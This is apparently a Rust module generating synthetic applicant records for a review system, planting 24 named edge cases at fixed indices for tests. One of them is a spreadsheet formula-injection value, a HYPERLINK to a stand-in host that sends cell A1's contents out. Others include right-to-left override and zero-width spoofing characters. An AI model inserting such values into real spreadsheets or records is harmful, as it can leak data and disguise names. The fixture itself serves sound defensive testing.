//! Which applicant is odd, and how. One oddity an applicant, at a fixed index, so that tests and the demo can name
//! them; every oddity comes within the first 60.

use crate::applicant::{Applicant, Date, Oddity, TargetGroup};
use crate::generate::{DUPLICATE_OF, exception, own_answer};
use crate::panel::Reviewer;

/// Index and oddity. Beyond index 59 applicants are regular.
pub(crate) const ODDITIES: [(usize, Oddity); 24] = [
    (3, Oddity::MissingSecondLetter),
    (7, Oddity::OverAge),
    (11, Oddity::OverAgeWithProof),
    (15, Oddity::OutsideGroupsWithProof),
    (17, Oddity::RightToLeftOverride),
    (18, Oddity::ZeroWidth),
    (19, Oddity::FormulaCell),
    (21, Oddity::LongOrganisation),
    (25, Oddity::Apostrophes),
    (27, Oddity::Emoji),
    (29, Oddity::Duplicate),
    (31, Oddity::NoMedia),
    (34, Oddity::ReviewersColleague),
    (35, Oddity::LateByTimeZone),
    (37, Oddity::UnderAge),
    (39, Oddity::TurnsFortySix),
    (41, Oddity::ExceptionWithoutProof),
    (43, Oddity::OwnLanguageOnly),
    (45, Oddity::Decomposed),
    (46, Oddity::CsvSpecials),
    (47, Oddity::DuplicateByCase),
    (49, Oddity::OneRefereeTwice),
    (53, Oddity::EmptyAnswer),
    (57, Oddity::MixedScripts),
];

/// Index of the applicant whose address [`Oddity::DuplicateByCase`] repeats in capitals.
const DUPLICATE_BY_CASE_OF: usize = 9;

/// Makes the applicant at `index` odd, where the table says so; `before` are the applicants made so far.
pub(crate) fn apply(index: usize, applicant: &mut Applicant, before: &[Applicant], reviewers: &[Reviewer]) {
    let Some((_, oddity)) = ODDITIES.iter().find(|(at, _)| *at == index) else { return };
    applicant.oddity = Some(*oddity);
    match oddity {
        Oddity::MissingSecondLetter => applicant.referees[1].letter = None,
        Oddity::OverAge => applicant.birth_date = date(1_968, 5, 14),
        Oddity::OverAgeWithProof => {
            applicant.birth_date = date(1_970, 11, 2);
            applicant.exception = Some(exception(applicant, index, true));
        }
        Oddity::UnderAge => applicant.birth_date = date(2_001, 6, 30),
        Oddity::TurnsFortySix => applicant.birth_date = date(1_973, 5, 20),
        Oddity::OutsideGroupsWithProof => {
            applicant.target_group = TargetGroup::Outside;
            applicant.position = "Community mediator".to_owned();
            applicant.exception = Some(exception(applicant, index, true));
        }
        Oddity::ExceptionWithoutProof => {
            applicant.birth_date = date(1_972, 1, 9);
            applicant.exception = Some(exception(applicant, index, false));
        }
        Oddity::NoMedia => applicant.media.clear(),
        Oddity::RightToLeftOverride => insert_after_first_word(&mut applicant.name, "\u{202e}"),
        Oddity::ZeroWidth => insert_after_first_word(&mut applicant.name, "\u{200b}\u{200d}\u{feff}"),
        Oddity::FormulaCell => {
            applicant.organisation =
                "=HYPERLINK(\"http://sheet.example/?x=\"&A1,\"Children's Desk\")".to_owned();
        }
        Oddity::LongOrganisation => {
            let name = applicant.organisation.clone();
            applicant.organisation = (1..=24)
                .map(|n| format!("{name}, Regional Branch Office No. {n}"))
                .collect::<Vec<_>>()
                .join(" and ");
        }
        Oddity::Apostrophes => {
            applicant.name.push_str(" O'Neill-D’Arcy");
            applicant.organisation.push_str(" 'n' Children’s Friends'");
        }
        Oddity::Emoji => {
            applicant.name.push_str(" 🌻");
            applicant.organisation.push_str(" 👩🏽‍⚖️🇺🇳");
        }
        Oddity::Duplicate => {
            if let Some(original) = before.get(DUPLICATE_OF) {
                applicant.email.clone_from(&original.email);
                applicant.name = original.name_latin.to_uppercase();
                applicant.name_latin.clone_from(&original.name_latin);
                applicant.birth_date = original.birth_date;
                applicant.country.clone_from(&original.country);
                applicant.region = original.region;
            }
        }
        Oddity::DuplicateByCase => {
            if let Some(original) = before.get(DUPLICATE_BY_CASE_OF) {
                applicant.email = original.email.to_uppercase();
                applicant.name = format!("  {} ", original.name);
                applicant.name_latin.clone_from(&original.name_latin);
            }
        }
        // 18:40 on the last day, ten hours west of Beijing and more.
        Oddity::LateByTimeZone => applicant.submitted_at = "2019-03-31T18:40:00-05:00".to_owned(),
        Oddity::Decomposed => applicant.name.push_str(" Cafe\u{301}-Mu\u{308}ller"),
        Oddity::CsvSpecials => {
            applicant.organisation =
                format!("\"Rights, Now\"; {}\nSecond Floor,\ttab", applicant.organisation);
        }
        Oddity::OneRefereeTwice => {
            let [first, second] = &mut applicant.referees;
            second.name.clone_from(&first.name);
            second.email.clone_from(&first.email);
        }
        Oddity::EmptyAnswer => applicant.answers[2].clear(),
        Oddity::MixedScripts => applicant.name = format!("{} Александра 王小明", applicant.name),
        Oddity::OwnLanguageOnly => {
            if let Some(answer) = own_answer(applicant, index) {
                applicant.answers[3] = answer;
            }
        }
        Oddity::ReviewersColleague => {
            if let Some(reviewer) = reviewers.first() {
                applicant.organisation.clone_from(&reviewer.organisation);
            }
        }
    }
}

fn date(year: u16, month: u8, day: u8) -> Date {
    Date { year, month, day }
}

/// Puts characters behind the first word, or at the end where there is one word.
fn insert_after_first_word(text: &mut String, inserted: &str) {
    let at = text.find(' ').unwrap_or(text.len());
    text.insert_str(at, inserted);
}
